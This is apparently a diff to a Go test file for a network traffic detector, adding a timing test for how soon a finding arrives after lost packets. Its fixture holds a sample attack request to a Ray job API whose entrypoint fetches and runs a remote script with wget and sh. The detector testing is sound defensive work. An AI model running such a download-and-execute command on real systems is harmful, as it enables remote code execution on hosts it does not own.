@@ -10,6 +10,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/raytap/raytap/capture"
 	"github.com/raytap/raytap/detectors"
@@ -257,6 +258,52 @@ func TestUnseenBytesAreEstimated(t *testing.T) {
 		f := stats.Flow
 		if f.Acks < 1500 || f.AckedBytes < 150_000 || (drop == 0) != (f.Gaps == 0) || drop > 0 && (f.Gaps < 90 || f.Gaps > 110 || f.Unseen != f.Gaps*100) {
 			t.Errorf("every %dth is missing: %+v", drop, f)
+		}
+	}
+}
+
+// when is the number of batches that were through before a finding of a rule came.
+type when struct {
+	rule    string
+	batches int
+	came    int // -1: not yet
+}
+
+func (w *when) Event(ev any) {
+	if f, ok := ev.(*detectors.Finding); ok && f.Rule == w.rule && w.came < 0 {
+		w.came = w.batches
+	}
+}
+
+// TestLossIsToldSoon: an answer to what was lost waits for it, and no longer than it has to though nothing more comes in the
+// flow, nor in any other. Replay, of which nobody waits for a finding, has its clock move once a second.
+func TestLossIsToldSoon(t *testing.T) {
+	var c talk
+	c.open()
+	body := `{"entrypoint": "wget -q http://198.51.100.77/x -O /tmp/.x; sh /tmp/.x"}`
+	c.say(false, "POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: 71\r\n\r\n")
+	c.say(false, body)
+	c.frames = c.frames[:len(c.frames)-1]
+	c.say(true, "HTTP/1.1 200 OK\r\nServer: Python/3.10 aiohttp/3.9.1\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"job_id\": \"01\"}")
+	for _, wait := range []time.Duration{0, 40 * time.Millisecond, 100 * time.Millisecond} {
+		src := &fakeLive{frames: c.frames, per: len(c.frames)}
+		for n := range 40 {
+			src.idle = append(src.idle, c.frames[0].Time+capture.Time(n+1)*tickLive)
+		}
+		w := &when{rule: "jobsubmit/external", came: -1}
+		cfg := DefaultConfig()
+		cfg.Order.Wait = wait
+		cfg.Progress = func(Stats) { w.batches++ }
+		stats, err := run(context.Background(), cfg, src, false, []Sink{w})
+		if err != nil {
+			t.Fatal(err)
+		}
+		// The first batch has the frames, and each one behind it lets the clock move on by a tick.
+		if late := time.Duration(w.came) * time.Duration(tickLive); w.came < 0 || late < wait || late > wait+time.Duration(tickLive) {
+			t.Errorf("waits for %v: told after %d batches; %+v", wait, w.came, stats.Flow)
+		}
+		if (stats.Flow.WaitTime > 0) != (wait > 0) {
+			t.Errorf("waits for %v: %+v", wait, stats.Flow)
 		}
 	}
 }
